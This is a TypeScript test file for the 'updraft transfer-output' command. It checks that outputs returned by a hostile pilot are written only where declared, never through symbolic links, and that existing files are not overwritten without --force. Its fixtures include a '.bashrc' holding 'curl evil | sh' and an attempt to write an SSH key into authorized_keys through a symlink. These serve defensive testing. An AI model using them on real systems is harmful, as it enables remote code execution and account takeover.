/**
 * `updraft transfer-output`, spawned as bin/updraft.js against a real schedd, with outputs a
 * hostile pilot uploaded: only the job's declared outputs are written, renamed as its
 * transfer_output_remaps says; no file is written through a symbolic link; a different file
 * already there is kept unless --force, an identical one is left as it is.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { job, runCli, slot, startEnv, type TestEnv } from "./harness.js";

let env: TestEnv;
let work: string;
before(async () => {
  env = await startEnv();
  work = join(env.dir, "submit");
  mkdirSync(work);
});
after(() => env.close());

const updraft = (args: string[]) => runCli(env, work, args);

const sha = (b: Buffer) => createHash("sha256").update(b).digest("hex");

/** A job of alice's that a pilot ran and returned these files for (names as the pilot chose). */
async function finishedJob(attrs: Record<string, string>, files: Record<string, string>) {
  const alice = env.client("alice");
  const pilot = env.client("pilot");
  const cluster = await alice.newCluster();
  await alice.submitJobs(cluster, [
    job({ TransferExecutable: "false", Iwd: JSON.stringify(work), ...attrs }),
  ]);
  const offer = await pilot.claimJob(slot());
  assert.equal(offer.jobId, `${cluster}.0`);
  for (const [name, text] of Object.entries(files)) {
    const data = Buffer.from(text);
    await pilot.putOutput({
      name,
      offset: 0,
      data,
      last: true,
      sha256: sha(data),
      leaseId: offer.leaseId,
      jobId: "",
    });
  }
  await pilot.completeJob({ leaseId: offer.leaseId, outputs: [] });
  return String(cluster);
}

test("only declared outputs are written, where the remaps say", async () => {
  const id = await finishedJob(
    {
      Out: '"job.out"',
      TransferOutput: '"histos.root,results"',
      TransferOutputRemaps: '"histos.root = out/histos_0.root"',
    },
    {
      "job.out": "stdout\n",
      "histos.root": "root\n",
      "results/a.txt": "a\n",
      // Not declared: a pilot trying to drop a script or a dotfile into the user's directory.
      ".bashrc": "curl evil | sh\n",
      "bin/evil.sh": "#!/bin/sh\n",
    },
  );
  const r = await updraft(["transfer-output", id]);
  assert.equal(r.code, 1, r.stdout);
  assert.match(r.stderr, /not writing '\.bashrc': the job did not declare it as an output/);
  assert.match(r.stderr, /not writing 'bin\/evil\.sh': the job did not declare it/);
  assert.match(r.stderr, /2 file\(s\) not written/);
  assert.equal(readFileSync(join(work, "job.out"), "utf8"), "stdout\n");
  assert.equal(readFileSync(join(work, "out", "histos_0.root"), "utf8"), "root\n");
  assert.equal(readFileSync(join(work, "results", "a.txt"), "utf8"), "a\n");
  assert.equal(existsSync(join(work, "histos.root")), false, "renamed, not copied");
  assert.equal(existsSync(join(work, ".bashrc")), false);
  assert.equal(existsSync(join(work, "bin")), false);
});

test("an existing different file is kept without --force; an identical one is no error", async () => {
  writeFileSync(join(work, "result.txt"), "the user's own notes\n");
  const id = await finishedJob({ TransferOutput: '"result.txt"' }, { "result.txt": "job\n" });
  let r = await updraft(["transfer-output", id]);
  assert.equal(r.code, 1);
  assert.match(r.stderr, /'result\.txt': a different file is already there; use --force/);
  assert.equal(readFileSync(join(work, "result.txt"), "utf8"), "the user's own notes\n");
  r = await updraft(["transfer-output", id, "--force"]);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(readFileSync(join(work, "result.txt"), "utf8"), "job\n");
  r = await updraft(["transfer-output", id]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /Fetched 1 file\(s\) of job .* \(1 already there\)/);
});

test("attack: no output is written through a symbolic link", async () => {
  const victim = join(env.dir, "victim");
  mkdirSync(victim);
  writeFileSync(join(victim, "authorized_keys"), "ssh-ed25519 AAAA alice\n");
  // A link where a subdirectory output goes, and one where a file output goes.
  symlinkSync(victim, join(work, "plots"));
  symlinkSync(join(victim, "authorized_keys"), join(work, "summary.txt"));
  const id = await finishedJob(
    { TransferOutput: '"plots,summary.txt"' },
    { "plots/authorized_keys": "ssh-rsa EVIL\n", "summary.txt": "summary\n" },
  );
  const r = await updraft(["transfer-output", id]);
  assert.equal(r.code, 1);
  assert.match(r.stderr, /'plots\/authorized_keys': .*plots is a symbolic link/);
  assert.match(r.stderr, /'summary\.txt': a different file is already there/);
  assert.equal(readFileSync(join(victim, "authorized_keys"), "utf8"), "ssh-ed25519 AAAA alice\n");
  // With --force the link itself is replaced by the file; its target is untouched.
  const forced = await updraft(["transfer-output", id, "--force"]);
  assert.match(forced.stderr, /plots is a symbolic link/);
  assert.equal(lstatSync(join(work, "summary.txt")).isFile(), true);
  assert.equal(readFileSync(join(work, "summary.txt"), "utf8"), "summary\n");
  assert.equal(readFileSync(join(victim, "authorized_keys"), "utf8"), "ssh-ed25519 AAAA alice\n");
});
